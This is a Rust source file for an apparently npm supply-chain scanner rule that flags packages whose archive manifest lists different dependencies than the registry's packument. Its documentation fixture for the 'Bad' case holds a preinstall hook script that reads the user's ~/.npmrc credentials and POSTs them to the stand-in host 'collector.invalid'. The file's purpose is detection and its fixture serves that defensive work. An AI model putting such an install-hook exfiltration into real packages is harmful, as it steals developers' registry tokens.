//! # The registry lists other dependencies than the archive
//!
//! The archive's manifest needs a package that the registry's manifest does not list, or the other way round.
//!
//! ## Why it matters
//!
//! Package managers install what the registry lists; who reads the archive sees other names. A dependency in one of the two alone
//! is one that nobody was meant to see.
//!
//! ## Known benign uses
//!
//! Tools that bundle dependencies and change the manifest while they pack it. Ranges that name a workspace, and optional or
//! bundled dependencies that publishing clients list twice, are no difference. It never decides alone.
//!
//! ## Bad
//!
//! ```package with packument
//! == package.json //~ 1
//! {"name": "left-pad-two", "version": "1.3.0", "scripts": {"preinstall": "node setup.js"}}
//! == setup.js
//! const fs = require("fs"), os = require("os"), path = require("path"), https = require("https");
//! const text = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8");
//! const request = https.request({ hostname: "collector.invalid", method: "POST" });
//! request.write(text);
//! request.end();
//! == packument.json
//! {"name": "left-pad-two", "versions": {"1.3.0": {"_id": "a", "name": "left-pad-two", "version": "1.3.0",
//!   "scripts": {"preinstall": "node setup.js"}, "dependencies": {"plain-helper-lite": "^4.2.1"}, "dist": {"shasum": "da39a3ee5e6b4b0d3255bfef95601890afd80709"}}}}
//! ```
//!
//! ## Good
//!
//! ```package with packument
//! == package.json
//! {"name": "watcher", "version": "1.3.0", "main": "index.js", "optionalDependencies": {"fsevents": "^2.0.0"}}
//! == index.js
//! module.exports = () => require("fsevents");
//! == packument.json
//! {"name": "watcher", "versions": {"1.3.0": {"_id": "a", "name": "watcher", "version": "1.3.0", "main": "index.js",
//!   "dependencies": {"fsevents": "^2.0.0"}, "optionalDependencies": {"fsevents": "^2.0.0"}, "dist": {"shasum": "da39a3ee5e6b4b0d3255bfef95601890afd80709"}}}}
//! ```
//!
//! ## References
//!
//! - Clarke: The massive bug at the heart of the npm ecosystem (June 2023)

use stockade_facts::registry::RegistryDifference;

use crate::prelude::*;

/// The registry lists other dependencies than the archive.
pub struct DependencyDiffersFromRegistry;

impl Rule for DependencyDiffersFromRegistry {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "dependency-differs-from-registry",
            title: "The registry lists other dependencies than the archive",
            tier: Tier::Metadata,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::Medium,
            technique: "T1195.002",
            covers: &["manifest-confusion"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        for difference in facts.registry_differences() {
            let (name, does) = match &difference {
                RegistryDifference::DependencyHidden { name } => (name, "which the registry does not list"),
                RegistryDifference::DependencyAdded { name } => (name, "which the registry alone lists"),
                _ => continue,
            };
            let does = format!("is installed with `{}`, {does}", excerpt(name, 80));
            found.in_manifest(&["dependencies", name], &does);
        }
    }
}
